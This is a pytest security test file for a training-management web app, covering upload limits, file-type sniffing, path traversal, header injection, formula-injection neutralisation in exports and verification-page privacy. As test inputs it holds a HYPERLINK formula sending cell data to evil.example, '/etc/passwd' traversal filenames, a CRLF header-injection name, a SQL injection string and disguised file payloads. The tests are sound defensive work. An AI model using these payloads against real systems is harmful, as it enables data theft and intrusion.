"""Uploads (size limits, type sniffing, no path traversal) and exports (formula injection neutralised), plus
what the public verification page may show (domain requirement 13)."""
import csv
import io
from pathlib import Path

import openpyxl
import pytest

from bimtek.accounts.models import Role
from bimtek.action_plans import services as plans
from bimtek.attendance.models import AttendanceFile
from bimtek.extensions import db as _db
from tests.factories import make_registration, make_training, make_user
from tests.integration.test_action_plans_workflow import form, valid_rows
from tests.security.test_idor import issue_test_certificate

EVIL = ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+62-812-0000", "@SUM(1+1)", "-2+3")
ZOOM = ("Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes)\n"
        "{name},,07/21/2020 08:00:00 AM,07/21/2020 12:00:00 PM,240\n")


@pytest.fixture
def world(db):
    training = make_training(code="UPL")
    victim = make_registration(training, name=EVIL[0], email="formula@example.id", instansi=EVIL[1],
                               jabatan=EVIL[2], kabupaten=EVIL[3])
    admin = make_user(Role.ADMIN)
    return {"training": training, "reg": victim, "admin": admin}


def _data_dir_files(app):
    root = Path(app.config["DATA_DIR"])
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


def test_request_body_over_the_global_limit_is_refused(app, client, world):
    old = app.config["MAX_CONTENT_LENGTH"]
    app.config["MAX_CONTENT_LENGTH"] = 1024
    try:
        response = client.post(f"/pelatihan/{world['training'].id}/daftar", data={"nama_lengkap": "x" * 4096})
    finally:
        app.config["MAX_CONTENT_LENGTH"] = old
    assert response.status_code == 413
    assert "Traceback" not in response.get_data(as_text=True)


def test_attendance_log_over_the_per_file_limit_is_refused(app, client, login_as, world):
    login_as(world["admin"])
    training = world["training"]
    old = app.config["ATTENDANCE_MAX_UPLOAD_MB"]
    app.config["ATTENDANCE_MAX_UPLOAD_MB"] = 0.001  # about 1 KB
    try:
        big = ZOOM.format(name="UPL-0001 Peserta").encode() + b"x," * 2000
        response = client.post(f"/kelola/pelatihan/{training.id}/kehadiran/sesi/{training.sessions[0].id}/unggah",
                               data={"files": (io.BytesIO(big), "besar.csv")}, follow_redirects=True)
    finally:
        app.config["ATTENDANCE_MAX_UPLOAD_MB"] = old
    assert response.status_code == 200
    assert _db.session.query(AttendanceFile).count() == 0


def test_attendance_upload_with_traversal_name_is_stored_by_digest_only(app, client, login_as, world):
    login_as(world["admin"])
    training = world["training"]
    before = _data_dir_files(app)
    data = ZOOM.format(name="UPL-0001 Peserta").encode()
    url = f"/kelola/pelatihan/{training.id}/kehadiran/sesi/{training.sessions[0].id}/unggah"
    refused = client.post(url, data={"files": (io.BytesIO(data), "../../../../etc/passwd")}, follow_redirects=True)
    assert refused.status_code == 200 and _db.session.query(AttendanceFile).count() == 0  # no extension: refused
    client.post(url, data={"files": (io.BytesIO(data), "../../../../etc/passwd.csv")})
    stored = _db.session.query(AttendanceFile).one()
    assert "/" not in stored.filename and "\\" not in stored.filename and ".." not in stored.filename
    new = _data_dir_files(app) - before
    assert all(name.startswith("files/") and len(name.rsplit("/", 1)[1]) == 64 for name in new), new
    assert not (Path(app.config["DATA_DIR"]).parent / "etc").exists()


@pytest.mark.parametrize("filename,data", [
    ("surat.pdf", b"<html><script>alert(1)</script></html>"),           # HTML renamed to .pdf
    ("anggaran.xlsx", b"MZ\x90\x00" + b"\x00" * 200),                    # a Windows program renamed to .xlsx
    ("gambar.pdf", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),               # an image renamed to .pdf
])
def test_rtl_attachment_type_is_sniffed_from_bytes(client, login_as, world, filename, data):
    reg = world["reg"]
    login_as(reg.user)
    response = client.post(f"/peserta/rtl/{reg.id}", data={**form(valid_rows(), action="save"),
                                                           "attachment": (io.BytesIO(data), filename)},
                           follow_redirects=True)
    assert "PDF, DOCX atau XLSX" in response.get_data(as_text=True)
    plan = plans.plan_for(reg)
    assert plan is None or plan.attachment_digest is None


def test_rtl_attachment_name_cannot_traverse_or_inject_headers(app, client, login_as, world):
    reg = world["reg"]
    login_as(reg.user)
    client.post(f"/peserta/rtl/{reg.id}", data={**form(valid_rows(), action="save"),
                                                "attachment": (io.BytesIO(b"%PDF-1.4 lampiran"),
                                                               '..\\..\\etc/pass"wd\r\nX-Evil: 1.pdf')})
    plan = plans.plan_for(reg)
    assert plan.attachment_digest and "/" not in plan.attachment_name and "\\" not in plan.attachment_name
    response = client.get(f"/rtl/{reg.id}/lampiran")
    disposition = response.headers["Content-Disposition"]
    assert "\n" not in disposition and "X-Evil" not in response.headers and disposition.count('"') == 2


def _csv_cells(data):
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=text.splitlines()[0][len("Nama Lengkap")])
            for cell in row]


def _xlsx_cells(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]
    book.close()
    return cells


def _assert_neutral_xlsx(data):
    for value, kind in _xlsx_cells(data):
        assert kind != "f", f"formula cell in export: {value!r}"
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "@")) or value.startswith("'"), value


def test_roster_exports_neutralise_formulas(client, login_as, world):
    login_as(world["admin"])
    tid = world["training"].id
    cells = _csv_cells(client.get(f"/kelola/pelatihan/{tid}/peserta/ekspor.csv").data)
    for evil in EVIL:
        assert evil not in cells and "'" + evil in cells
    _assert_neutral_xlsx(client.get(f"/kelola/pelatihan/{tid}/peserta/ekspor.xlsx").data)


def test_attendance_and_rtl_exports_neutralise_formulas(client, login_as, world):
    login_as(world["admin"])
    tid = world["training"].id
    reg = world["reg"]
    plans.submit_plan(reg.user, reg, valid_rows())
    _db.session.commit()
    csv_text = client.get(f"/kelola/pelatihan/{tid}/kehadiran/ekspor.csv").get_data(as_text=True)
    assert "\n" + EVIL[0] not in csv_text and "," + EVIL[0] not in csv_text and ";" + EVIL[0] not in csv_text
    _assert_neutral_xlsx(client.get(f"/kelola/pelatihan/{tid}/kehadiran/ekspor.xlsx").data)
    _assert_neutral_xlsx(client.get(f"/kelola/pelatihan/{tid}/rtl/rekap.xlsx").data)


def test_verify_page_and_json_show_only_status_name_training_dates_jp(client, world):
    reg = world["reg"]
    reg.nip, reg.phone = "198609262015051001", "081234567890"
    _db.session.commit()
    cert = issue_test_certificate(reg)
    page = client.get(f"/v/{cert.code}").get_data(as_text=True)
    data = client.get(f"/v/{cert.code}.json").get_json()
    # number, issue date and signer are printed on the certificate itself (issue 14); nothing else personal;
    # electronic_signature: who signed it electronically and when (issue 17)
    assert set(data) <= {"status", "status_label", "revoked_reason", "name", "training", "organizer", "dates", "jp",
                         "code", "number", "issued_on", "signer", "electronic_signature"}, data
    assert set(data["signer"]) == {"name", "jabatan"}
    for secret in ("198609262015051001", "formula@example.id", "081234567890", reg.number, EVIL[1], EVIL[2],
                   EVIL[3]):
        assert secret not in page and secret not in str(data), secret
    assert world["training"].name in page and "30 JP" in page and "Dr. Penandatangan" in page


def test_unknown_or_malformed_verification_codes_reveal_nothing(client, world):
    for code in ("AAAAAAAAAAAAAAAAAAAAAAAA", "../../etc/passwd", "1' OR '1'='1"):
        response = client.get(f"/v/{code}")
        assert response.status_code == 404
        assert "Traceback" not in response.get_data(as_text=True)
